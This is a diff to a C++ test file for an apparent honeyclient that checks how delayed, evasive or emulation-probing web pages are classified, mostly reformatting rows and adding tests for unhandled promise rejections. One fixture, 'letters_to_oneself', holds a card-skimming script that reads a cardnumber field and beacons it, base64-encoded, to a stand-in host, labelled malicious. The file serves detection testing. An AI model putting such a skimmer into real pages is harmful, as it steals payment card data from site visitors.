@@ -1,5 +1,5 @@
-// Pages that do much that is harmless first, or wait, or break what the emulation might lean on, and then what
-// they came for: that is seen all the same, and where a bound was reached it is named.
+// Pages that do much that is harmless first, or wait, or break what the emulation might lean on, and then
+// what they came for: that is seen all the same, and where a bound was reached it is named.
 #include <algorithm>
 
 #include <gmock/gmock.h>
@@ -10,6 +10,7 @@ namespace shikake::honeyclient::low {
 namespace {
 
 using ::testing::Contains;
+using ::testing::ElementsAre;
 using ::testing::HasSubstr;
 using ::testing::IsEmpty;
 
@@ -94,10 +95,11 @@ INSTANTIATE_TEST_SUITE_P(
             "malicious"},
         Row{"letters_to_oneself",
             "chrome-win10",
-            {{"/", "<body><form><input name=cardnumber></form><script>"
-                   "document.forms[0][0].onchange = function () {"
-                   "for (var i = 0; i < 100; i++) navigator.sendBeacon('/' + i, this.value);"
-                   "new Image().src = '{b}/?' + btoa(this.value) }</script>"}},
+            {{"/",
+              "<body><form><input name=cardnumber></form><script>"
+              "document.forms[0][0].onchange = function () {"
+              "for (var i = 0; i < 100; i++) navigator.sendBeacon('/' + i, this.value);"
+              "new Image().src = '{b}/?' + btoa(this.value) }</script>"}},
             "malicious"},
         Row{"many_empty_frames",
             "chrome-win10",
@@ -119,15 +121,20 @@ INSTANTIATE_TEST_SUITE_P(
             "{b}/end",
             "frames"},
         // --- time
-        Row{"a_minute", "chrome-win10", {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 61000)</script>"}},
-            "benign", "{b}/end"},
-        Row{"a_day", "chrome-win10", {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 86400000)</script>"}},
-            "benign", "{b}/end"},
+        Row{"a_minute",
+            "chrome-win10",
+            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 61000)</script>"}},
+            "benign",
+            "{b}/end"},
+        Row{"a_day",
+            "chrome-win10",
+            {{"/", "<script>setTimeout(\"" + leads_to_end + "\", 86400000)</script>"}},
+            "benign",
+            "{b}/end"},
         Row{"several_minutes_in_steps",
             "chrome-win10",
-            {{"/",
-              "<script>setTimeout(function () { setTimeout(function () {\nsetTimeout(function () { " +
-                  leads_to_end + " }, 40000) }, 40000) }, 40000)</script>"}},
+            {{"/", "<script>setTimeout(function () { setTimeout(function () {\nsetTimeout(function () { " +
+                       leads_to_end + " }, 40000) }, 40000) }, 40000)</script>"}},
             "benign",
             "{b}/end"},
         Row{"longer_than_a_timer_can",
@@ -137,8 +144,9 @@ INSTANTIATE_TEST_SUITE_P(
             "{b}/end"},
         Row{"a_clock_that_ticks_is_no_wait",
             "chrome-win10",
-            {{"/", "<p id=t></p><script>(function tick() { t.textContent = Date.now(); setTimeout(tick, 1000) "
-                   "})(); setInterval(function () {}, 30000)</script>"}},
+            {{"/",
+              "<p id=t></p><script>(function tick() { t.textContent = Date.now(); setTimeout(tick, 1000) "
+              "})(); setInterval(function () {}, 30000)</script>"}},
             "benign"},
         Row{"a_page_that_reloads_itself_after_minutes",
             "chrome-win10",
@@ -147,8 +155,10 @@ INSTANTIATE_TEST_SUITE_P(
         // --- where it goes
         Row{"moves_to_where_it_is",
             "chrome-win10",
-            {{"/", "<script>location.hash = 'a'; location.hash = 'a'; location.href = '#a';"
-                   "onhashchange = function () { " + leads_to_end + " }</script>"}},
+            {{"/",
+              "<script>location.hash = 'a'; location.hash = 'a'; location.href = '#a';"
+              "onhashchange = function () { " +
+                  leads_to_end + " }</script>"}},
             "benign",
             "{b}/end"},
         // --- what the emulation might lean on
@@ -190,14 +200,16 @@ INSTANTIATE_TEST_SUITE_P(
         Row{"asks_for_a_data_url_anew",
             "chrome-win10",
             {{"/",
-              "<script>fetch('data:application/json;base64,eyJ1IjoiZW5kIn0=').then(r => r.json()).then(function (o) {"
+              "<script>fetch('data:application/json;base64,eyJ1IjoiZW5kIn0=').then(r => "
+              "r.json()).then(function (o) {"
               "new Image().src = '{b}/' + o.u })</script>"}},
             "benign",
             "{b}/end"},
         Row{"asks_for_a_blob_in_the_old_way",
             "chrome-win10",
             {{"/",
-              "<script>var u = URL.createObjectURL(new Blob(['e', 'nd'], {type: 'text/x'})), r = new XMLHttpRequest();"
+              "<script>var u = URL.createObjectURL(new Blob(['e', 'nd'], {type: 'text/x'})), r = new "
+              "XMLHttpRequest();"
               "r.open('GET', u); r.responseType = 'arraybuffer'; r.onload = function () {"
               "new Image().src = '{b}/' + String.fromCharCode.apply(null, new Uint8Array(r.response)) +"
               "(r.getResponseHeader('content-type') == 'text/x' ? '' : '?') }; r.send()</script>"}},
@@ -213,14 +225,16 @@ INSTANTIATE_TEST_SUITE_P(
         Row{"asks_for_a_blob_anew",
             "chrome-win10",
             {{"/",
-              "<script>fetch(URL.createObjectURL(new Blob(['end']))).then(r => r.blob()).then(b => b.text()).then("
+              "<script>fetch(URL.createObjectURL(new Blob(['end']))).then(r => r.blob()).then(b => "
+              "b.text()).then("
               "function (t) { new Image().src = '{b}/' + t })</script>"}},
             "benign",
             "{b}/end"},
         Row{"asks_for_a_blob_in_a_worker",
             "chrome-win10",
             {{"/",
-              "<script>var u = URL.createObjectURL(new Blob(['end'])); var w = new Worker(URL.createObjectURL(new "
+              "<script>var u = URL.createObjectURL(new Blob(['end'])); var w = new "
+              "Worker(URL.createObjectURL(new "
               "Blob(['onmessage = function (e) { fetch(e.data).then(r => r.text()).then(postMessage) }'])));"
               "w.onmessage = function (e) { new Image().src = '{b}/' + e.data }; w.postMessage(u)</script>"}},
             "benign",
@@ -232,17 +246,47 @@ INSTANTIATE_TEST_SUITE_P(
               "fetch(u).catch(function () { new Image().src = '{b}/end' })</script>"}},
             "benign",
             "{b}/end"},
+        // --- a promise that nobody waits for
+        Row{"hears_that_a_promise_failed",
+            "chrome-win10",
+            {{"/",
+              "<script>addEventListener('unhandledrejection', function (e) { new Image().src = '{b}/' + "
+              "e.reason });"
+              "Promise.reject('end')</script>"}},
+            "benign",
+            "{b}/end"},
+        Row{"fails_again_in_what_hears_of_it",
+            "chrome-win10",
+            {{"/",
+              "<script>onunhandledrejection = function () { Promise.reject(1) }; Promise.reject(1);"
+              "setTimeout(function () { " +
+                  leads_to_end + " }, 1000)</script>"}},
+            "benign",
+            "{b}/end",
+            "rejections"},
         // --- what is too long to be asked for
         Row{"sends_more_than_can_be_told",
             "chrome-win10",
             {{"/",
-              "<script>var s = 'x'.repeat(36 << 20); fetch('/x', {method: 'POST', body: s}).catch(function () {"
+              "<script>var s = 'x'.repeat(36 << 20); fetch('/x', {method: 'POST', body: s}).catch(function "
+              "() {"
               "var r = new XMLHttpRequest(); r.open('POST', '/x', false); try { r.send(s) } catch (e) {"
               "new Image().src = '{b}/end' } })</script>"}},
             "benign",
             "{b}/end",
             "message"}),
     [](const auto& row) { return row.param.name; });
+
+// Whose failure somebody hears before the next turn is none.
+TEST(Rejections, AreToldWhereNobodyHears) {
+  VisitOptions options = local_visit("http://page.example/");
+  options.offline = true;
+  options.content =
+      "<script>Promise.reject(new Error('lost')); var late = Promise.reject(new Error('found'));"
+      "Promise.resolve().then(function () { late.catch(function () {}) })</script>";
+  const intel::VisitRecord visit = visit_or_fail(options);
+  EXPECT_THAT(events_of(visit, "error"), ElementsAre("in a promise: Error: lost"));
+}
 
 // What is known of a file by its digest, wherever the visit meets it.
 struct KnownRow {
@@ -290,12 +334,13 @@ INSTANTIATE_TEST_SUITE_P(
                  "malicious",
                  "exploit",
                  "{b}/x"},
-        KnownRow{"a_text_that_is_evaluated",
-                 "chrome-win10",
-                 {{"/", "<script>try { eval('a specimen that' + ' somebody has judged') } catch (e) {}</script>"}},
-                 "malicious",
-                 "exploit",
-                 "{a}/"},
+        KnownRow{
+            "a_text_that_is_evaluated",
+            "chrome-win10",
+            {{"/", "<script>try { eval('a specimen that' + ' somebody has judged') } catch (e) {}</script>"}},
+            "malicious",
+            "exploit",
+            "{a}/"},
         KnownRow{"another_body",
                  "chrome-win10",
                  {{"/", "<img src='{b}/x'>"}, {"/x", "a specimen that nobody has judged"}},
